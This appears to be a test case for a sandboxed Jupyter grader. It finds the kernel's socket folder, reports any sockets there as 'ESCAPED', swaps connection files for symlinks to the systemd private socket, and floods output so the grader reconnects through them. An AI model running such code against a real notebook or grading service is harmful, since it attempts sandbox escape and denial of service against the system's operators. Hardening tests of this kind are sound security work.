# what: puts links in the place of its sockets and makes the grader connect again
# rows: 69
# alone: yes
# deadlines: cell=20
# %%
import json, os, sys, stat

folder = os.path.dirname(
    get_ipython().kernel.config.get("IPKernelApp", {}).get("connection_file")
    or sys.argv[sys.argv.index("-f") + 1]
)
for name in os.listdir(folder):
    if stat.S_ISSOCK(os.lstat(os.path.join(folder, name)).st_mode):
        print("ESCAPED", name)
for n in range(10):
    for dash in ("s-",):
        path = f"{folder}/{dash}{n}"
        if os.path.lexists(path):
            os.remove(path)
        os.symlink("/run/systemd/private", path)
print("x" * 60_000_000)
# %%
print("after")
